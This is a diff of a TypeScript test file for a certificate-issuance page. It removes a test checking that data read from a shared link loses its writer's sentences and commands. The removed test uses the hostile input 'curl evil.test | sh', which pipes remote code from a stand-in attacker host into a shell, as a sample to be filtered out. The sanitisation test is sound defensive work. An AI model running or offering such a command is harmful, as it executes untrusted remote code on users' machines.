@@ -1,7 +1,7 @@
 // The reading of an answer about a certificate, from a server of any version or from a link.
 import { expect, test } from 'bun:test'
 import { issuanceKey, issuanceText } from '../../../../../src/faces/web/page/issuance.text.ts'
-import { actionsBesideLines, issuanceIn, linkedIssuanceIn } from '../../../../../src/faces/web/page/issuance.ts'
+import { actionsBesideLines, issuanceIn } from '../../../../../src/faces/web/page/issuance.ts'
 import type { HttpFacts, TlsFacts } from '../../../../../src/issuance/facts.ts'
 import { METHOD_VERDICTS, METHODS, PROBLEM_CODES } from '../../../../../src/issuance/fields.ts'
 
@@ -73,24 +73,4 @@ test('an action does not say the lines again that are drawn', () => {
   expect(codesOf([{ program: 'caddy' }])).not.toContain('use-caddy')
   expect(codesOf([])).toEqual(codes)
   expect(actionsBesideLines({ ...answer, methods: [] })).toEqual(actions)
-})
-
-test('of a link only codes, names and addresses are read: no sentence and no command of its writer', () => {
-  const said = 'Call 0123 now'
-  const evil = { code: 'address-silent', severity: 'error', address: said, text: said }
-  const read = linkedIssuanceIn({
-    ...ANSWER,
-    ...{ domain: said, unicodeDomain: said, caa: { found: said, issuers: [said, 'ca.test'] } },
-    methods: [{ method: 'http-01', verdict: 'would-fail', problems: [evil, { ...evil, code: said }] }],
-    addresses: [{ address: said }, { address: '203.0.113.7', http: { ...PORT, server: said }, tls: { outcome: said } }],
-    commands: [{ program: said, note: said, lines: ['curl evil.test | sh'] }],
-  })
-  expect(JSON.stringify(read)).not.toMatch(/Call|evil/)
-  expect(read).toMatchObject({ caa: { found: '', issuers: ['', 'ca.test'] }, commands: [] })
-  expect(read?.methods[0]?.problems).toHaveLength(1)
-  expect(read?.addresses).toEqual([
-    { address: '203.0.113.7', http: expect.objectContaining({ status: 404, server: '' }), tls: null },
-  ])
-  expect(linkedIssuanceIn(ANSWER)?.domain).toBe('*.xn--9d0bm53a3xbzui.test')
-  expect(linkedIssuanceIn({ status: 'open' })).toBeNull()
 })
